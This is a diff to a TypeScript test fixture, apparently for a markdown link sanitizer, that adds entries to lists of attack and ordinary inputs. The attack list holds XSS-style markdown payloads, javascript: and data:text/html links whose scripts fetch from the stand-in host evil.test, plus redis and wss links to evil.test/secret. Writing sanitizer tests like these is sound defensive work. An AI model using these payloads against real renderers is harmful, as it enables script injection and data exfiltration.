@@ -109,6 +109,8 @@ export const ATTACKS: string[] = [
   '[click](javascript:fetch("https://evil.test/l14"))',
   '[click](java&#115;cript:fetch(1))',
   '[click](data:text/html,<script>1</script>)',
+  '[click](data:/text/html,<script>fetch("https://evil.test/d")</script>)',
+  'Connect to redis://evil.test:6379/secret or [here](wss://evil.test/secret).',
   '[click][r]\n\n[r]: https://evil.test/l15',
   '[r]\n\n[r]:https://evil.test/l16',
   '[r]\n\n[r]:\n  <https://evil.test/l17>',
@@ -147,8 +149,9 @@ export const ORDINARY: string[] = [
   'Write to info@museum.example, at 10:30, e.g. v1.2.3 of Node.js and main.py!',
   'If a < b and b > c then x[i] is 5 <= 6; use `Map<string, number>` and <b>bold</b>.',
   'Grüße 👩‍👩‍👧 ❤️‍🔥 1️⃣ می‌خواهم',
+  'Run `docker run -v $PWD/data:/data -v data:/var/lib/data` with redis://cache.internal:6379/0.',
   'Note: the answer is "yes": [1] see above... and so on; and/or: C:\\folder\\file',
 ]
 
 export const SOURCE = `The museum sells tickets at https://museum.example/tickets and shows its
-plan at www.museum.example/plan. Write to info@museum.example.`
+plan at www.museum.example/plan. Write to info@museum.example. Its cache is redis://cache.internal:6379/0.`
